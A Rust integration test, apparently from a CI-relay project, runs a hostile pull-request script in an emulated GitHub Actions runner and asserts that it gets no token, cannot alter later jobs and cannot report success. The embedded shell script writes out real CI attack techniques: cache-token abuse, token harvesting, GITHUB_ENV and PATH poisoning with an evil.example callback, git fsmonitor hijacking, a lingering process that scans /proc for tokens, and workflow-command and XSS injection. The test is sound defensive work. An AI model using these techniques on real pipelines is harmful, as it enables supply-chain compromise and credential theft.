//! A hostile run: the job of the downstream template that runs upstream's code tries to get out, in a real workflow
//! runner. GitHub gives each job a machine of its own; here the jobs run one after the other, and what the hostile job
//! left running ends with its job.

use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::PermissionsExt as _;
use std::path::Path;
use std::process::Command;

use crcr_standin::runs::Run;

use crate::act_downstream::{
    DOWNSTREAM, Machine, dispatched_pull, downstream_run, job_variables, workflow,
};
use crate::checkout::Upstream;
use crate::relay_process::{Place, UPSTREAM, eventually};

/// The code of a pull request that wants out. Each line that it gets hold of something goes to `$LOOT`, and what later
/// jobs would run of it goes there, too. It passes its own tests' result off as a success, which is its right.
const HOSTILE: &str = r#"
loot() { printf '%s\n' "$1" >> "$LOOT"; }
# 1. The cache: its address, or an entry for main's builds. A process of the job can read the token that the runner gives
# to a later step's action.
[[ -z ${ACTIONS_CACHE_URL-} ]] || loot "cache address"
python3 - "$STANDIN_RUNNER_VARIABLES" > "$EVIL/cache" <<'PYTHON'
import json, sys, urllib.request
given = json.load(open(sys.argv[1]))
call = "twirp/github.actions.results.api.v1.CacheService/CreateCacheEntry"
asked = urllib.request.Request(
    given["ACTIONS_RESULTS_URL"] + call, json.dumps({"key": "main-deps", "version": "1"}).encode(),
    {"authorization": "Bearer " + given["ACTIONS_RUNTIME_TOKEN"], "content-type": "application/json"})
print(urllib.request.urlopen(asked).read().decode())
PYTHON
# 2. A token of the default branch, or GitHub's own.
[[ -z ${ACTIONS_ID_TOKEN_REQUEST_TOKEN-} ]] || loot "OIDC request token"
[[ -z ${GITHUB_TOKEN-}${GH_TOKEN-} ]] || loot "GitHub token"
# 3. Environment files, which change later steps, and, if anything carried them, later jobs.
printf '%s\n' "CRCR_CALLBACK_URL=https://evil.example" "BASH_ENV=$EVIL/bash_env" "ENV=$EVIL/bash_env" \
  "INPUT_CONCLUSION=success" "NODE_OPTIONS=--require=$EVIL/hook.cjs" >> "$GITHUB_ENV"
# 4. A program of the same name, found first.
printf '%s\n' "$EVIL" >> "$GITHUB_PATH"
# 5. The artifact of another leg, which the last job takes for its own.
mkdir -p test-reports
printf '{"conclusion": "success", "phase": "test"}' > test-reports/outcome.json
# 6. `sub`: a job without a token has none; the step's own claims are looked at after the run.
# 7. The runner's temporary folder.
for file in crcr outcome.json test-reports; do ln -sfn "$EVIL/crcr" "$RUNNER_TEMP/$file" || true; done
# 8. git's configuration, for whoever uses git next.
git config --global core.fsmonitor "$EVIL/crcr" || true
git config --global core.hooksPath "$EVIL" || true
git -C upstream config core.fsmonitor "$EVIL/crcr"
# 9. and 10. Problem matchers, and workflow commands in what is printed.
printf '%s\n' "::add-matcher::$EVIL/matcher.json" "::set-env name=CRCR_CALLBACK_URL::https://evil.example" \
  "::add-path::$EVIL" "::set-output name=conclusion::success" "::stop-commands::forever"
# 11. A process that stays, and looks for tokens of later jobs: until the test removes its folder. The end of the step's
# shell hangs up its terminal, which ends whatever hasn't left that session yet, so the job waits for that.
: >> "$LEFT"
setsid bash -c 'echo $$ >> "$LEFT"
while [[ -e $LEFT ]]; do
  grep -qszF "ACTIONS_ID_TOKEN_REQUEST_URL=$ISSUER" /proc/[0-9]*/environ && echo "leftover process" >> "$LOOT"
  sleep 0.1
done' < /dev/null > "$LEFT.printed" 2>&1 &
until [[ -s $LEFT ]]; do sleep 0.05; done
# 12. The report: a name that is a workflow command and markup, a link, and far too much.
{
  printf '<testsuite tests="1">'
  printf '<testcase classname="a" name="&#10;::add-path::%s&#10;&lt;script&gt;@everyone"><failure message="&#10;::error::x"/></testcase>' "$EVIL"
  printf '</testsuite>'
} > test-reports/pytest.xml
ln -s /etc/passwd test-reports/link.xml
exit 1
"#;

/// What a later job would run, if one of the ways led there.
const TRAP: &str = "#!/bin/sh\necho \"ran as ${GITHUB_JOB-nobody}: $0 $*\" >> '[LOOT]'\nexit 1\n";

/// A folder with what the hostile code leaves for others, and where it writes what it found.
struct Evil {
    folder: tempfile::TempDir,
}

impl Evil {
    fn new() -> Self {
        let folder = tempfile::tempdir().unwrap();
        let evil = Self { folder };
        let trap = TRAP.replace("[LOOT]", &evil.path("loot"));
        for name in ["crcr", "git", "gzip", "curl", "bash_env", "pre-commit", "post-checkout"] {
            fs::write(evil.path(name), &trap).unwrap();
            fs::set_permissions(evil.path(name), fs::Permissions::from_mode(0o755)).unwrap();
        }
        fs::write(
            evil.path("matcher.json"),
            r#"{"problemMatcher": [{"owner": "evil", "pattern": [{"regexp": ".*"}]}]}"#,
        )
        .unwrap();
        fs::write(evil.path("hook.cjs"), "").unwrap();
        evil
    }

    fn path(&self, name: &str) -> String {
        self.folder.path().join(name).to_str().unwrap().to_owned()
    }

    /// As the machine of the job ends: what it left running is gone.
    fn end_machine(&self) {
        let left = fs::read_to_string(self.path("left")).unwrap();
        assert!(!left.trim().is_empty(), "the hostile code has left no process");
        for process in left.split_whitespace() {
            let process: u32 = process.parse().expect("the number of a process");
            assert!(process > 1, "{process}");
            // One process by its own number, and never a group: some versions of `kill` read `-123` as `-1`, everybody.
            let status = Command::new("kill").args(["-s", "KILL", &process.to_string()]).status();
            let printed = fs::read_to_string(self.path("left.printed")).unwrap_or_default();
            assert!(status.unwrap().success(), "{process} had ended by itself: {printed}");
        }
    }

    fn loot(&self) -> Vec<String> {
        let text = fs::read_to_string(self.path("loot")).unwrap_or_default();
        text.lines().map(str::to_owned).collect()
    }
}

/// The template's jobs of these names; what they need of other jobs is over, and `test` has failed.
fn jobs_of(text: &str, names: &[&str], evil: Option<(&Evil, &str)>) -> String {
    let mut workflow: serde_yaml::Value = serde_yaml::from_str(text).unwrap();
    workflow["jobs"].as_mapping_mut().unwrap().retain(|name, job| {
        job.as_mapping_mut().unwrap().remove("needs");
        if job.get("strategy").is_some() {
            job["strategy"]["matrix"]["python"] = vec!["3.11"].into();
        }
        for step in job["steps"].as_sequence_mut().unwrap() {
            let conclusion = step.get("with").and_then(|with| with.get("conclusion")?.as_str());
            if conclusion == Some("${{ needs.test.result }}") {
                step["with"]["conclusion"] = "failure".into();
            }
        }
        names.contains(&name.as_str().unwrap())
    });
    let Some((evil, issuer)) = evil else { return serde_yaml::to_string(&workflow).unwrap() };
    let env = [("LOOT", "loot"), ("LEFT", "left"), ("EVIL", "")];
    let mut env: BTreeMap<_, _> = env.map(|(name, file)| (name, evil.path(file))).into();
    // Other tests on this machine have tokens, too.
    env.insert("ISSUER", issuer.to_owned());
    for step in workflow["jobs"]["test"]["steps"].as_sequence_mut().unwrap() {
        match step.get("name").and_then(serde_yaml::Value::as_str) {
            Some("Build") => step["run"] = "echo built".into(),
            Some("Test") => {
                step["run"] = HOSTILE.into();
                step["env"] = serde_yaml::to_value(&env).unwrap();
            }
            _ => {}
        }
    }
    serde_yaml::to_string(&workflow).unwrap()
}

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs act and node"]
async fn hostile_run_gets_no_token_changes_no_other_job_and_cannot_turn_its_check_green() {
    let upstream = Upstream::new();
    let place = Place::new(&[DOWNSTREAM], "L4:\n  - acme/four: [dave]\n");
    let relay = place.serve();
    let (_, event) = dispatched_pull(&place, &relay, &upstream).await;
    let state = place.github.state();
    let run = Run {
        event: "repository_dispatch".to_owned(),
        workflow: "upstream".to_owned(),
        ..downstream_run(&place)
    };
    let [artifacts, token] = job_variables(&place, &run);
    let text = workflow("downstream-ci.yml", &upstream.server.url, &token);
    let evil = Evil::new();
    // The runner's token of the hostile job is what GitHub makes of the template's `cache-mode`.
    let mut job = state.runs.add_job(run.id, "test");
    let template = crate::act::read("workflows-templates/downstream-ci.yml");
    let template: serde_yaml::Value = serde_yaml::from_str(&template).unwrap();
    job.may_cache = template["jobs"]["test"].get("cache-mode") != Some(&"none".into());
    let of_test = state.job_environment(&job);
    let of_test = artifacts.keys().map(|name| (*name, of_test[name].clone())).collect();
    let jobs = |text: &str, name: &str| {
        let variables = if name == "test" { &of_test } else { &artifacts };
        let machine = Machine { place: &place, relay: &relay, run: &run, event: &event, variables };
        tokio::task::block_in_place(|| machine.run(name, text))
    };

    let (log, succeeded) = jobs(&jobs_of(&text, &["start"], None), "start");
    assert!(succeeded, "{log}");
    let (hostile, succeeded) =
        jobs(&jobs_of(&text, &["test"], Some((&evil, state.origin()))), "test");
    assert!(!succeeded, "the hostile code didn't run to its end\n{hostile}");
    assert!(hostile.contains("::add-path::") || hostile.contains("add-path"), "{hostile}");
    evil.end_machine();
    let stolen = evil.loot();
    assert!(!stolen.iter().any(|line| !line.starts_with("ran as test")), "{stolen:?}\n{hostile}");
    assert!(Path::new(&evil.path("left")).exists());
    let answer = fs::read_to_string(evil.path("cache")).unwrap();
    assert!(answer.contains("\"ok\":false"), "the cache wasn't asked, or is written: {answer}");
    assert_eq!(state.caches.keys(), [""; 0]);

    let (end, succeeded) = jobs(&jobs_of(&text, &["end"], None), "end");
    assert!(succeeded, "{end}");
    for job in ["end", "start"] {
        let ran = evil.loot().into_iter().find(|line| line.starts_with(&format!("ran as {job}")));
        assert_eq!(ran, None, "{end}");
    }
    assert!(!end.contains("evil.example"), "{end}");
    for command in ["::add-path::", "::add-matcher::", "::error::x", "<script>"] {
        let as_command = end.lines().any(|line| line.trim_start().starts_with(command));
        assert!(!as_command, "{command}: {end}");
    }
    assert!(!end.contains("root:x:"), "the report has a file of the machine\n{end}");
    let reported = "reported to 127.0.0.1: `test (3.11)` is completed (failure)";
    assert!(end.contains(reported), "{end}");
    assert!(!hostile.contains("eyJ") && !end.contains("eyJ"), "a token is in a log");

    let name = "crcr/acme/four/upstream/test (3.11)";
    let shown = async || {
        let runs = state.world.check_runs(UPSTREAM);
        runs.into_iter().find(|run| run.name == name && run.conclusion.is_some())
    };
    eventually(name, async || shown().await.is_some()).await;
    assert_eq!(shown().await.unwrap().conclusion.as_deref(), Some("failure"));
}
